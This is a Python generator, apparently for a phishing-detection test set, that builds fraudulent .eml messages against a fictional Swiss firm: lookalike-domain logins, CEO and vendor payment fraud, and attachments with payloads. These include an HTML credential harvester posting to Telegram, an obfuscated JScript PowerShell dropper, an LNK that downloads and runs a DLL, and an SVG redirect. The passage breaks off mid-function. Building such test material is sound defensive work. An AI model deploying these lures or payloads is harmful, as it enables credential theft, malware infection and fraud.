# ruff: noqa: E501
"""Phishing and fraud aimed at Helvetica Labs AG (blind set 3): one function per message."""

from __future__ import annotations

import base64
from collections.abc import Callable
from urllib.parse import quote

from b3_common import build, dt, iso_bytes, lnk_bytes, mid, pdf, qr_png, rcv, tok, zip_of

HL = "helvetica-labs.example"


def p01_post_customs_fee() -> None:
    url = f"https://post-ch.zollabfertigung-paket.com/ch/de/sendung?id=99.34.{tok('p01', 8)}"
    build("phish/01_swisspost_customs_fee.eml", frm="Die Post <info@swisspost-zustellservice.com>",
          subject="Ihre Sendung wartet: Zollgebühr CHF 2.95 ausstehend", date=dt(11, 26, 6, 17),
          msgid=mid("p01", "swisspost-zustellservice.com"),
          received=[rcv("vps-4471.hostinger-mail.example", "203.0.113.44", dt(11, 26, 6, 17, 30))],
          text=("Sehr geehrter Kunde,\n\nIhr Paket 99.34.118201.00473 konnte nicht zugestellt werden, da eine Zollgebühr von CHF 2.95 "
                "nicht bezahlt wurde.\n\nBitte bezahlen Sie die Gebühr innerhalb von 48 Stunden, sonst wird die Sendung an den Absender "
                f"zurückgeschickt:\n\n{url}\n\nMit freundlichen Grüssen\nDie Schweizerische Post\n"),
          html=("<html><body style=\"font-family:Arial\"><div style=\"background:#ffcc00;padding:12px\"><b>DIE POST</b></div>"
                "<p>Sehr geehrter Kunde,</p><p>Ihr Paket <b>99.34.118201.00473</b> konnte nicht zugestellt werden, da eine Zollgebühr von "
                "<b>CHF 2.95</b> nicht bezahlt wurde.</p><p>Bitte bezahlen Sie die Gebühr innerhalb von <b>48 Stunden</b>, sonst wird die Sendung an den Absender zurückgeschickt.</p>"
                f"<p><a href=\"{url}\" style=\"background:#000;color:#fff;padding:10px 20px\">Gebühr bezahlen</a></p>"
                "<p style=\"font-size:10px\">© Die Schweizerische Post AG</p></body></html>"))


def p02_postfinance_subdomain() -> None:
    url = f"https://postfinance.ch.secure-login.info/ef/login?session={tok('p02', 28)}"
    build("phish/02_postfinance_subdomain_trick.eml", frm="PostFinance <sicherheit@postfinance-ch-kundenservice.com>",
          subject="Wichtig: Ihr E-Finance Zugang wurde eingeschränkt", date=dt(11, 24, 22, 41),
          msgid=mid("p02", "postfinance-ch-kundenservice.com"),
          received=[rcv("mail.postfinance-ch-kundenservice.com", "203.0.113.91", dt(11, 24, 22, 41, 12))],
          text=("Sehr geehrte Kundin, sehr geehrter Kunde\n\nAufgrund ungewöhnlicher Aktivitäten wurde Ihr E-Finance Zugang vorübergehend eingeschränkt. "
                "Um eine Sperrung Ihres Kontos zu vermeiden, bestätigen Sie bitte Ihre Identität innerhalb von 24 Stunden.\n\n"
                f"Jetzt bestätigen: {url}\n\nVielen Dank für Ihr Verständnis.\nIhr PostFinance Sicherheitsteam\n"),
          html=("<html><body><p><img src=\"https://postfinance.ch.secure-login.info/img/pf-logo.png\" alt=\"PostFinance\"></p>"
                "<p>Sehr geehrte Kundin, sehr geehrter Kunde</p><p>Aufgrund ungewöhnlicher Aktivitäten wurde Ihr E-Finance Zugang vorübergehend eingeschränkt. "
                "Um eine Sperrung Ihres Kontos zu vermeiden, bestätigen Sie bitte Ihre Identität innerhalb von 24 Stunden.</p>"
                f"<p><a href=\"{url}\">https://www.postfinance.ch/e-finance/verifizierung</a></p><p>Ihr PostFinance Sicherheitsteam</p></body></html>"))


def p03_twint_fr() -> None:
    url = f"https://twint-remboursement.com/ch/fr/?ref={tok('p03', 12)}"
    build("phish/03_twint_remboursement_fr.eml", frm="TWINT <service@twint-remboursement.com>",
          subject="Vous avez reçu un remboursement de CHF 127.40", date=dt(11, 25, 18, 3),
          msgid=mid("p03", "twint-remboursement.com"),
          received=[rcv("smtp.twint-remboursement.com", "203.0.113.17", dt(11, 25, 18, 3, 40))],
          text=("Bonjour,\n\nUn remboursement de CHF 127.40 est en attente sur votre compte TWINT suite à une double transaction.\n\n"
                "Pour recevoir le montant, veuillez confirmer vos coordonnées bancaires et votre carte dans les 24 heures:\n"
                f"{url}\n\nPassé ce délai, le remboursement sera annulé.\n\nL'équipe TWINT\n"))


def p04_sbb_refund() -> None:
    url = "https://sbb-rueckerstattung.ch-kundenportal.net/erstattung/formular"
    build("phish/04_sbb_refund.eml", frm="SBB CFF FFS <kundendienst@sbb-ch-service.info>",
          subject="Rückerstattung GA: CHF 214.00 für Zugsausfälle", date=dt(11, 21, 12, 44),
          msgid=mid("p04", "sbb-ch-service.info"),
          received=[rcv("vmi883122.contaboserver.example", "203.0.113.150", dt(11, 21, 12, 44, 21))],
          text=("Liebe Reisende, lieber Reisender\n\nWegen der Streckenunterbrüche im Oktober erhalten GA-Inhaber eine Entschädigung von CHF 214.00.\n\n"
                f"Füllen Sie das Formular aus, um die Auszahlung auf Ihre Kreditkarte zu erhalten: {url}\n\n"
                "Das Angebot gilt bis 30.11.2026.\n\nFreundliche Grüsse\nSBB Kundendienst\n"))


def p05_swisscom_it() -> None:
    url = "https://swisscom-fattura.net/it/clienti/pagamento?c=" + tok("p05", 10)
    build("phish/05_swisscom_fattura_it.eml", frm="Swisscom <fatture@swisscom-fattura.net>",
          subject="Pagamento non riuscito – il suo servizio sarà sospeso", date=dt(11, 23, 8, 12),
          msgid=mid("p05", "swisscom-fattura.net"),
          received=[rcv("mail.swisscom-fattura.net", "203.0.113.61", dt(11, 23, 8, 12, 33))],
          text=("Gentile cliente,\n\nnon siamo riusciti ad addebitare l'importo di CHF 89.90 per la fattura di novembre. "
                "Per evitare la sospensione dei servizi Internet e mobile entro 24 ore, aggiorni il suo metodo di pagamento:\n\n"
                f"{url}\n\nCordiali saluti\nIl suo team Swisscom\n"))


def p06_m365_password_expiry() -> None:
    url = f"https://m365-passwordcenter.com/common/oauth2/authorize?login_hint=jonas.meier%40{HL}&state={tok('p06', 16)}"
    build("phish/06_m365_password_expiry.eml", frm="Microsoft 365 <no-reply@m365-passwordcenter.com>",
          subject=f"Password for jonas.meier@{HL} expires today", date=dt(11, 27, 7, 55),
          msgid=mid("p06", "m365-passwordcenter.com"),
          received=[rcv("mail.m365-passwordcenter.com", "203.0.113.201", dt(11, 27, 7, 55, 19))],
          text=f"Your password expires today. Keep current password: {url}\n",
          html=("<html><body style=\"font-family:Segoe UI\"><p style=\"font-size:20px\">Microsoft 365</p>"
                f"<p>The password for <b>jonas.meier@{HL}</b> expires today, 27 November 2026.</p>"
                "<p>To keep using your current password and avoid losing access to Outlook, Teams and OneDrive, confirm below.</p>"
                f"<p><a href=\"{url}\" style=\"background:#0078d4;color:#fff;padding:10px 18px;text-decoration:none\">Keep Current Password</a></p>"
                f"<p style=\"font-size:11px;color:#777\">This message was sent to jonas.meier@{HL} by the {HL} admin.</p></body></html>"))


def p07_okta_lookalike() -> None:
    url = f"https://helvetica-labs.okta-verify-sso.com/signin/verify?fromURI=%2Fapp%2Fuserhome&t={tok('p07', 20)}"
    build("phish/07_okta_session_verify.eml", frm="Okta <noreply@okta-verify-sso.com>",
          subject="Action required: re-verify your Okta Verify enrollment", date=dt(11, 26, 9, 8),
          msgid=mid("p07", "okta-verify-sso.com"),
          received=[rcv("mta2.okta-verify-sso.com", "203.0.113.99", dt(11, 26, 9, 8, 41))],
          text=("Hello Jonas,\n\nYour organization Helvetica Labs AG is migrating to a new Okta Verify version. Your current factor will be "
                "removed on 28 November 2026 and you will be unable to sign in to Outlook, SAP and Concur.\n\n"
                f"Re-verify now: {url}\n\nThis is an automatically generated message from Okta. Replies are not monitored.\n"))


def p08_university_mailbox_upgrade() -> None:
    url = "https://sites.google.com/view/owa-mailbox-upgrade-2026/home"
    build("phish/08_university_mailbox_upgrade.eml", frm="IT Service Desk <m.baertschi@uni-bergtal.example>",
          subject="Mailbox Upgrade Notification / Postfach-Aktualisierung", date=dt(11, 20, 3, 12),
          msgid=mid("p08", "uni-bergtal.example"),
          to="undisclosed-recipients:;",
          received=[rcv("smtp.uni-bergtal.example", "192.0.2.33", dt(11, 20, 3, 12, 5))],
          text=("Dear Email User,\n\nYour mailbox has exceeded the storage limit set by your administrator (49.8 GB / 50 GB). "
                "You may not be able to send or receive new mail until you upgrade your mailbox.\n\n"
                f"To upgrade, CLICK HERE: {url} and fill in your details.\n\n"
                "Failure to upgrade within 48 hours will result in permanent deactivation of your account.\n\n"
                "Sehr geehrter Benutzer, Ihr Postfach ist voll. Bitte aktualisieren Sie es über den obigen Link.\n\n"
                "Thank you,\nSystem Administrator\n"))


def p09_qr_mfa() -> None:
    qr = qr_png(f"https://mfa-helvetica-labs.com/auth/register?u=am9uYXMubWVpZXI%3D&k={tok('p09', 14)}", 5)
    build("phish/09_qr_mfa_inline.eml", frm="Helvetica Labs IT <it-noreply@abacus-treuhand.example>",
          subject="Pflicht: Multi-Faktor-Authentifizierung bis 30.11. neu einrichten", date=dt(11, 24, 7, 31),
          msgid=mid("p09", "abacus-treuhand.example"),
          received=[rcv("mail.abacus-treuhand.example", "192.0.2.140", dt(11, 24, 7, 31, 12))],
          text="Bitte scannen Sie den QR-Code mit Ihrem Smartphone.\n",
          html=("<html><body style=\"font-family:Calibri\"><p>Hallo Jonas Meier</p>"
                "<p>Im Rahmen der Sicherheitsrichtlinie 2027 muss die Multi-Faktor-Authentifizierung für alle Microsoft 365 Konten bis "
                "<b>30.11.2026</b> neu eingerichtet werden. Nicht registrierte Konten werden gesperrt.</p>"
                "<p>Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen:</p>"
                "<p><img src=\"cid:mfa_qr@helvetica-it\" width=\"220\" alt=\"\"></p><p>Vielen Dank<br>IT Support</p></body></html>"),
          related=[(qr, "mfa_qr@helvetica-it", "image/png")])


def p10_html_attachment_form() -> None:
    page = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Sign in to your account</title></head>"
            "<body style=\"background:#f2f2f2;font-family:Segoe UI\"><div style=\"width:380px;margin:80px auto;background:#fff;padding:40px\">"
            "<img src=\"https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg\">"
            "<h3>Sign in to view Remittance Advice</h3><p>Because you're accessing sensitive info, you need to verify your password.</p>"
            f"<form id=\"f\"><input id=\"e\" value=\"jonas.meier@{HL}\" readonly><input id=\"p\" type=\"password\" placeholder=\"Password\">"
            "<button type=\"submit\">Sign in</button></form></div>"
            "<script>document.getElementById('f').onsubmit=function(ev){ev.preventDefault();"
            "var d='Email: '+document.getElementById('e').value+' Pass: '+document.getElementById('p').value;"
            "fetch('https://api.telegram.org/bot7730119284:AAF3kq9TzLm0Xc2vB8nW4pYd5RjH6sGt1Qe/sendMessage?chat_id=-1002211843377&text='+encodeURIComponent(d))"
            ".then(function(){location.href='https://www.office.com/';});};</script></body></html>")
    build("phish/10_html_attachment_credentials.eml", frm="Accounts Payable <ap@nordlicht-logistik.example>",
          subject="Remittance Advice – Payment 26-11-2026 – INV 88310", date=dt(11, 26, 15, 2),
          msgid=mid("p10", "nordlicht-logistik.example"),
          received=[rcv("mail.nordlicht-logistik.example", "192.0.2.77", dt(11, 26, 15, 2, 9))],
          text=("Hello,\n\nPlease find attached the remittance advice for the payment released today.\n\n"
                "Kind regards,\nAccounts Payable\n"),
          attachments=[(page.encode(), "text", "html", "Remittance_Advice_88310.html")])


def p11_svg_redirect() -> None:
    target = base64.b64encode(b"https://docview-secure.click/o/?m=").decode()
    svg = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"200\">"
           "<rect width=\"600\" height=\"200\" fill=\"#fff\"/><text x=\"20\" y=\"100\" font-size=\"22\">Loading secure document...</text>"
           "<script><![CDATA[var e=\"am9uYXMubWVpZXJAaGVsdmV0aWNhLWxhYnMuZXhhbXBsZQ==\";"
           f"window.location.href=atob(\"{target}\")+e;]]></script></svg>")
    build("phish/11_svg_redirect_voicemail.eml", frm="Voice Message <voicemail@pbx-cloudnotify.com>",
          subject="🔊 New voicemail from +41 44 5•• •• 21 (0:47)", date=dt(11, 25, 11, 19),
          msgid=mid("p11", "pbx-cloudnotify.com"),
          received=[rcv("mail.pbx-cloudnotify.com", "203.0.113.120", dt(11, 25, 11, 19, 7))],
          text=("You have received a new voicemail.\n\nFrom: +41 44 5•• •• 21\nDuration: 0:47\nReceived: 25.11.2026 11:18\n\n"
                "Open the attached audio message to listen.\n"),
          attachments=[(svg.encode(), "image", "svg+xml", "VM_Play_0047.svg")])


def p12_zip_js() -> None:
    js = ("var _0x3a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','Run'];\r\n"
          "var s=new ActiveXObject(_0x3a[0]);\r\n"
          "s[_0x3a[1]]('powershell -w hidden -ep bypass -c \"iwr https://cdn.rechnung-download.example/a.ps1 -OutFile $env:TEMP\\\\u.ps1; & $env:TEMP\\\\u.ps1\"',0,false);\r\n")
    z = zip_of([("Rechnung_2026_11_4471.pdf.js", js.encode())])
    build("phish/12_zip_with_js_rechnung.eml", frm="Buchhaltung <rechnung@kaelin-elektro.example>",
          subject="Rechnung Nr. 2026-4471 – Zahlungsfrist", date=dt(11, 23, 13, 55),
          msgid=mid("p12", "kaelin-elektro.example"),
          received=[rcv("mail.kaelin-elektro.example", "192.0.2.56", dt(11, 23, 13, 55, 18))],
          text=("Guten Tag\n\nAnbei erhalten Sie die Rechnung Nr. 2026-4471. Wir bitten um Begleichung bis 30.11.2026.\n\n"
                "Das Passwort für das Archiv lautet: 4471\n\nFreundliche Grüsse\nBuchhaltung\n"),
          attachments=[(z, "application", "zip", "Rechnung_2026-4471.zip")])


def p13_zip_lnk() -> None:
    lnk = lnk_bytes("C:\\Windows\\System32\\cmd.exe /c curl -s -o %TEMP%\\d.dll https://files.order-docs.example/d.dll && rundll32 %TEMP%\\d.dll,Start")
    z = zip_of([("PO_4500-2317/Purchase_Order_Details.pdf.lnk", lnk)])
    build("phish/13_zip_with_lnk_order.eml", frm="Wei Zhang <sales@shenyang-precision.example>",
          subject="RE: Purchase Order 4500-2317 – updated specification", date=dt(11, 19, 4, 40, tz=8),
          msgid=mid("p13", "shenyang-precision.example"),
          received=[rcv("mail.shenyang-precision.example", "192.0.2.201", dt(11, 18, 20, 40, 31, 0))],
          text=("Dear Jonas,\n\nPlease check the updated drawing and specification for PO 4500-2317 attached, and confirm before Friday so we can "
                "arrange production.\n\nBest regards\nWei Zhang\nSales Manager\n"),
          attachments=[(z, "application", "zip", "PO_4500-2317.zip")])


def p14_iso_fr() -> None:
    build("phish/14_iso_bon_de_commande_fr.eml", frm="Service Achats <achats@vaudoise-equipements.example>",
          subject="Bon de commande BC-26-1192 – confirmation urgente", date=dt(11, 22, 10, 5),
          msgid=mid("p14", "vaudoise-equipements.example"),
          received=[rcv("smtp.vaudoise-equipements.example", "192.0.2.88", dt(11, 22, 10, 5, 44))],
          text=("Bonjour,\n\nVeuillez trouver ci-joint notre bon de commande BC-26-1192. Merci de nous confirmer les prix et le délai de livraison "
                "aujourd'hui encore.\n\nCordialement\nService Achats\n"),
          attachments=[(iso_bytes("BC_26_1192", "BC-26-1192.pdf.exe"), "application", "x-iso9660-image", "BC-26-1192.iso")])


def p15_compromised_supplier_cloud() -> None:
    url = "https://rechnung-4417-ansicht.pages.dev/?doc=" + tok("p15", 18)
    build("phish/15_compromised_supplier_invoice_pagesdev.eml", frm="Sandra Käslin <s.kaeslin@laborglas-zuerich.example>",
          subject="Offene Rechnung RE-2026-04502 – bitte prüfen", date=dt(11, 27, 16, 40),
          msgid=mid("p15", "laborglas-zuerich.example"),
          received=[rcv("mail.laborglas-zuerich.example", "198.51.100.41", dt(11, 27, 16, 40, 5))],
          text=("Grüezi Herr Meier\n\nWir haben Ihnen die Rechnung RE-2026-04502 über unser neues Kundenportal bereitgestellt. "
                "Da das Dokument vertraulich ist, melden Sie sich bitte mit Ihrer Geschäfts-E-Mail an:\n\n"
                f"Rechnung ansehen (PDF, 214 KB): {url}\n\nFreundliche Grüsse\n\nSandra Käslin\nBuchhaltung\nLaborglas Zürich GmbH\n"))


def p16_ceo_freemail() -> None:
    build("phish/16_ceo_freemail_payment.eml", frm="Sofia Brunner <sofia.brunner.hl@gmx.ch>",
          subject="Vertraulich – kurze Frage", date=dt(11, 27, 14, 12),
          msgid="<trinity-4b7c21e0-9a3f-4d88-b1e2-7f3a0c5d9e11-1795784320417@3c-app-gmx-bs55>",
          received=[rcv("mout.gmx.net", "212.227.17.20", dt(11, 27, 14, 12, 3))], dkim_domain="gmx.ch",
          text=("Hallo Jonas\n\nBist du gerade am Platz? Ich bin in einer Sitzung mit den Anwälten wegen einer Übernahme und kann nicht telefonieren. "
                "Wir müssen heute noch eine Anzahlung von EUR 48'600 an die Kanzlei überweisen, das Ganze ist streng vertraulich "
                "(auch gegenüber Luca, bis die Ad-hoc-Mitteilung raus ist).\n\nKannst du das über das Einkaufskonto auslösen? "
                "Ich schicke dir gleich die Bankdaten. Bitte nur per Mail antworten.\n\nDanke\nSofia\n\nVon meinem iPhone gesendet\n"))


def p17_ceo_lookalike() -> None:
    build("phish/17_ceo_lookalike_domain.eml", frm="Sofia Brunner <sofia.brunner@helvetica-lab.com>",
          subject="Re: Zahlung Lieferant – dringend heute", date=dt(11, 26, 16, 58),
          msgid=mid("p17", "helvetica-lab.com"),
          received=[rcv("mail.helvetica-lab.com", "203.0.113.210", dt(11, 26, 16, 58, 14))],
          extra=[("Reply-To", "Sofia Brunner <sofia.brunner@helvetica-lab.com>")],
          text=("Jonas,\n\nich brauche bis 17:30 eine Überweisung an unseren neuen Lieferanten in Portugal, der Vertrag ist unterschrieben. "
                "Betrag EUR 73'450.00.\n\nBank: Banco Comercial Portugues\nIBAN: PT50 0033 0000 4533 1290 4410 5\nBIC: BCOMPTPL\n"
                "Referenz: HL-Projekt Orion\n\nBitte bestätige mir die Ausführung mit dem Zahlungsbeleg. Kein Anruf, ich bin im Board Meeting.\n\nSofia\n\n"
                "Sofia Brunner\nCEO, Helvetica Labs AG\n"))


def p18_vendor_bank_change_replyto() -> None:
    build("phish/18_vendor_bank_change_lookalike_replyto.eml", frm="Martine Rochat <martine.rochat@mikrotech-instruments.example>",
          subject="Updated bank details – please use for all open invoices", date=dt(11, 25, 15, 37),
          msgid=mid("p18", "mikrotech-instruments.example"),
          received=[rcv("mail.mikrotech-instruments.example", "198.51.100.120", dt(11, 25, 15, 37, 9))],
          extra=[("Reply-To", "Martine Rochat <martine.rochat@mikrotech-lnstruments.com>")],
          text=("Dear Jonas,\n\nFurther to our letter, please note that due to an ongoing audit our old account can no longer receive "
                "payments effective immediately. Kindly update our details and settle the open invoices 26-3310 (CHF 18'420.00) and "
                "26-3342 (CHF 9'775.50) to the account below:\n\nBank: Revolut Bank UAB\nIBAN: LT12 3250 0117 8841 2093\nBIC: REVOLT21\n\n"
                "Your CFO Mr. Keller has already been informed. Please send us the payment confirmation once done.\n\n"
                "Best regards,\nMartine Rochat\nCFO, Mikrotech Instruments SA\n"))


def p19_fake_docusign() -> None:
    url = "https://docusign.esign-review-portal.com/Signing/?ti=" + tok("p19", 32)
    build("phish/19_fake_docusign_ceo.eml", frm="\"Sofia Brunner via Docusign\" <dse@docusign-esign-review.com>",
          subject="Complete with Docusign: Bonus_Allocation_2026_Confidential.pdf", date=dt(11, 24, 12, 6),
          msgid=mid("p19", "docusign-esign-review.com"),
          received=[rcv("mail.docusign-esign-review.com", "203.0.113.133", dt(11, 24, 12, 6, 22))],
          text=f"Sofia Brunner sent you a document to review and sign.\nREVIEW DOCUMENT: {url}\n",
          html=("<html><body style=\"font-family:Helvetica\"><div style=\"background:#1e4ca1;color:#fff;padding:20px\">"
                "<p>Sofia Brunner sent you a document to review and sign.</p>"
                f"<p><a href=\"{url}\" style=\"background:#ffc820;color:#000;padding:8px 20px\">REVIEW DOCUMENT</a></p></div>"
                "<p><b>Sofia Brunner</b><br>Please review and sign the 2026 bonus allocation before end of day.</p>"
                "<p style=\"font-size:11px\">Do Not Share This Email. This email contains a secure link to Docusign.</p></body></html>"))


def p20_fake_yousign_fr() -> None:
    url = "https://yousign-documents.com/sign/" + tok("p20", 24)
    build("phish/20_fake_yousign_fr.eml", frm="Yousign <notification@yousign-documents.com>",
          subject="Document en attente de signature: Avenant_Contrat_2027.pdf", date=dt(11, 23, 9, 17),
          msgid=mid("p20", "yousign-documents.com"),
          received=[rcv("smtp.yousign-documents.com", "203.0.113.171", dt(11, 23, 9, 17, 28))],
          text=("Bonjour,\n\nUn document vous attend pour signature: Avenant_Contrat_2027.pdf (2 pages).\n\n"
                f"Accéder au document: {url}\n\nCe lien expire dans 24 heures. Connectez-vous avec votre adresse e-mail professionnelle pour confirmer votre identité.\n\nYousign\n"))


def p21_callback_antivirus() -> None:
    build("phish/21_callback_antivirus_renewal.eml", frm="Billing Department <kathy.renwick.billing@gmail.com>",
          subject="Your subscription has been renewed – Order #NX-88412037", date=dt(11, 22, 16, 33),
          msgid="<CAM3zQ+9kT1xY2wR4vE6uI8oP0aS1dF3gH5jK7lZ9xC2vB4nM6q@mail.gmail.com>",
          received=[rcv("mail-pj1-f48.google.com", "209.85.216.48", dt(11, 22, 16, 33, 1))], dkim_domain="gmail.com",
          text=("Dear Customer,\n\nThank you for renewing your Norton 360 Total Protection (5 devices) subscription.\n\n"
                "Invoice: NX-88412037\nProduct: Norton 360 Total Protection – 3 years\nAmount: USD 449.99\nPayment: auto-debit\n\n"
                "The amount will be charged to your account within 24 hours. If you did not authorise this renewal or wish to cancel "
                "and get a refund, call our billing desk immediately:\n\n+1 (808) 555-0147\n\nSupport hours: 24/7\n\nRegards,\nBilling Department\n"))


def p22_estv_refund() -> None:
    url = "https://estv.admin.ch-rueckerstattung.com/verrechnungssteuer/antrag?fall=" + tok("p22", 8)
    build("phish/22_estv_tax_refund.eml", frm="Eidgenössische Steuerverwaltung ESTV <noreply@estv-admin-ch.info>",
          subject="Rückerstattung der Verrechnungssteuer: CHF 1'286.50 bereit", date=dt(11, 18, 10, 22),
          msgid=mid("p22", "estv-admin-ch.info"),
          received=[rcv("mail.estv-admin-ch.info", "203.0.113.186", dt(11, 18, 10, 22, 31))],
          text=("Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger\n\nNach der Prüfung Ihrer Steuerunterlagen 2025 haben Sie Anspruch "
                "auf eine Rückerstattung der Verrechnungssteuer von CHF 1'286.50.\n\nBitte füllen Sie den Antrag bis 30.11.2026 aus und geben Sie "
                f"Ihre Kartendaten für die Auszahlung an:\n{url}\n\nEidgenössische Steuerverwaltung ESTV\nEigerstrasse 65, 3003 Bern\n"))


def p23_steueramt_zh() -> None:
    url = "https://steueramt-zh.online/mahnung/" + tok("p23", 10)
    build("phish/23_steueramt_zuerich_mahnung.eml", frm="Kantonales Steueramt Zürich <mahnung@steueramt-zh.online>",
          subject="Letzte Mahnung: Steuerrechnung 2025 unbezahlt – Betreibung angedroht", date=dt(11, 25, 8, 48),
          msgid=mid("p23", "steueramt-zh.online"),
          received=[rcv("smtp.steueramt-zh.online", "203.0.113.5", dt(11, 25, 8, 48, 16))],
          text=("Sehr geehrte Damen und Herren\n\nTrotz mehrfacher Aufforderung ist die Schlussrechnung Staats- und Gemeindesteuern 2025 "
                "über CHF 3'912.40 unbezahlt. Wird der Betrag nicht innerhalb von 3 Tagen beglichen, leiten wir die Betreibung ein.\n\n"
                f"Rechnung ansehen und online bezahlen: {url}\n\nKantonales Steueramt Zürich, Bändliweg 21, 8090 Zürich\n"))


def p24_crypto() -> None:
    url = "https://binance-withdrawals-support.com/confirm?w=" + tok("p24", 16)
    build("phish/24_crypto_withdrawal.eml", frm="Binance <do-not-reply@binance-withdrawals-support.com>",
          subject="[Binance] Withdrawal request of 0.84 BTC pending confirmation", date=dt(11, 27, 1, 12, tz=0),
          msgid=mid("p24", "binance-withdrawals-support.com"),
          received=[rcv("mail.binance-withdrawals-support.com", "203.0.113.242", dt(11, 27, 1, 12, 40, 0))],
          text=("Withdrawal Request\n\nA withdrawal of 0.84 BTC to bc1q9x7k2m4n6p8r0t2v4x6z8a0c2e4g6j8l0n2q4 was requested from your account "
                "from IP 185.220.101.4 (Russia).\n\nIf this was not you, cancel the withdrawal and secure your account within 30 minutes:\n"
                f"{url}\n\nBinance Team\n"))


def p25_recruiter_download() -> None:
    url = "https://www.dropbox.com/scl/fi/8kq2x7zm1v/Role_Description_Head_of_Global_Sourcing.zip?rlkey=r9m2k4x7&dl=1"
    build("phish/25_linkedin_recruiter_download.eml", frm="Emily Carter <emily.carter.talent@outlook.com>",
          subject="Head of Global Sourcing – confidential opportunity (CHF 260k)", date=dt(11, 20, 18, 5),
          msgid=mid("p25", "EUR03.PROD.OUTLOOK.COM", "AM9PR03MB{a}"),
          received=[rcv("mail-am6eur05olkn2012.outbound.protection.outlook.com", "40.92.89.12", dt(11, 20, 18, 5, 2))],
          dkim_domain="outlook.com",
          text=("Hi Jonas,\n\nI came across your LinkedIn profile and was impressed by your procurement background at Helvetica Labs. "
                "I'm retained by a listed Swiss medtech company for a Head of Global Sourcing role (Zug, CHF 230–260k + bonus).\n\n"
                f"The client asked me to share the role description only with shortlisted candidates, you can download it here:\n{url}\n\n"
                "Open the file on a Windows PC (it contains the client's secure viewer). Are you free for a short call this week?\n\n"
                "Best,\nEmily Carter\nSenior Partner, Alpine Executive Search\n"))


def p26_open_redirect() -> None:
    dest = f"https://login-m365-helvetica.web.app/#{base64.b64encode(('jonas.meier@' + HL).encode()).decode()}"
    url = "https://www.google.com/url?sa=t&rct=j&url=" + quote(dest, safe="") + "&usg=AOvVaw0Zk2Qm9x1b3YcT5dWf7GhJ"
    build("phish/26_open_redirect_teams.eml", frm="Microsoft Teams <noreply@teams-chatnotify.com>",
          subject="Luca Keller sent you a message in Teams", date=dt(11, 27, 10, 40),
          msgid=mid("p26", "teams-chatnotify.com"),
          received=[rcv("mail.teams-chatnotify.com", "203.0.113.64", dt(11, 27, 10, 40, 19))],
          text=f"Luca Keller: \"Jonas, kannst du mir die Q4-Zahlungsliste kurz freigeben? Ist dringend.\"\nReply in Teams: {url}\n",
          html=("<html><body style=\"font-family:Segoe UI\"><p><b>Luca Keller</b> sent you a message</p>"
                "<blockquote>Jonas, kannst du mir die Q4-Zahlungsliste kurz freigeben? Ist dringend.</blockquote>"
                f"<p><a href=\"{url}\" style=\"background:#5b5fc7;color:#fff;padding:8px 16px\">Reply in Teams</a></p></body></html>"))


def p27_punycode() -> None:
    host = "pоstfinance.ch.konto-check.com".replace("pоstfinance", "pоstfinance".encode("idna").decode())
    url = f"https://{host}/login?c={tok('p27', 12)}"
    build("phish/27_punycode_postfinance.eml", frm=f"PostFinance <service@{host}>",
          subject="Ihre PostFinance Card wurde gesperrt", date=dt(11, 26, 20, 25),
          msgid=mid("p27", host),
          received=[rcv("mail.konto-check.com", "203.0.113.39", dt(11, 26, 20, 25, 44))],
          text=("Guten Tag\n\nAus Sicherheitsgründen wurde Ihre PostFinance Card vorübergehend gesperrt. Um sie wieder zu aktivieren, "
                f"melden Sie sich bitte an und bestätigen Sie Ihre Angaben:\n\n{url}\n\nFreundliche Grüsse\nPostFinance AG\n"),
          html=("<html><body><p>Guten Tag</p><p>Aus Sicherheitsgründen wurde Ihre <b>PostFinance Card</b> vorübergehend gesperrt.</p>"
                f"<p><a href=\"{url}\">Karte jetzt entsperren</a></p><p>Freundliche Grüsse<br>PostFinance AG</p></body></html>"))


def p28_reply_chain_zip() -> None:
    url = "https://pharmalog-ag.example/wp-content/uploads/2026/11/Unterlagen_Lieferantengespraech.zip"
    build("phish/28_reply_chain_hijack_zip.eml", frm="Regula Baumann <r.baumann@pharmalog-ag.example>",
          subject="Re: Einladung: Lieferantengespräch Q1 2027", date=dt(11, 26, 11, 14),
          msgid=mid("p28", "pharmalog-ag.example"),
          received=[rcv("mail.pharmalog-ag.example", "192.0.2.18", dt(11, 26, 11, 14, 32))],
          extra=[("In-Reply-To", mid("pharmalog-reply", HL)), ("References", mid("pharmalog", "google.com", "calendar-{a}-{b}-{c}-{d}-{e}") + " " + mid("pharmalog-reply", HL))],
          text=("Hallo\n\nAnbei die Unterlagen zum Gespräch, bitte vorab durchsehen:\n\n"
                f"{url}\n\nPasswort: 2027\n\nGruss\n\n"
                "-----Ursprüngliche Nachricht-----\nVon: Jonas Meier <jonas.meier@helvetica-labs.example>\nGesendet: Montag, 23. November 2026 10:41\n"
                "An: Regula Baumann <r.baumann@pharmalog-ag.example>\nBetreff: AW: Einladung: Lieferantengespräch Q1 2027\n\n"
                "Hallo Regula\n\nDanke für die Einladung, der 7. Dezember passt. Könntest du die Mengenplanung Q1 vorab schicken?\n\n"
                "Gruss\nJonas\n"))


def p29_sharepoint_it_compromised() -> None:
    url = "https://condivisione-documenti-onedrive.web.app/?id=" + tok("p29", 20)
    build("phish/29_sharepoint_lookalike_it.eml", frm="Alessia Rossi <alessia.rossi@termotecnica-ticino.example>",
          subject="Alessia Rossi ha condiviso «Offerta_2027_firmata.pdf» con te", date=dt(11, 24, 14, 50),
          msgid=mid("p29", "termotecnica-ticino.example"),
          received=[rcv("mail.termotecnica-ticino.example", "192.0.2.99", dt(11, 24, 14, 50, 3))],
          text=f"Alessia Rossi ha condiviso un file con te.\nOfferta_2027_firmata.pdf\nApri: {url}\n",
          html=("<html><body style=\"font-family:Segoe UI\"><p><b>Alessia Rossi</b> ha condiviso un file con te</p>"
                "<p>Buongiorno, in allegato l'offerta firmata. Per visualizzarla accedi con il tuo account Microsoft.</p>"
                f"<p><a href=\"{url}\">Offerta_2027_firmata.pdf</a></p>"
                f"<p><a href=\"{url}\" style=\"background:#0078d4;color:#fff;padding:8px 16px\">Apri</a></p>"
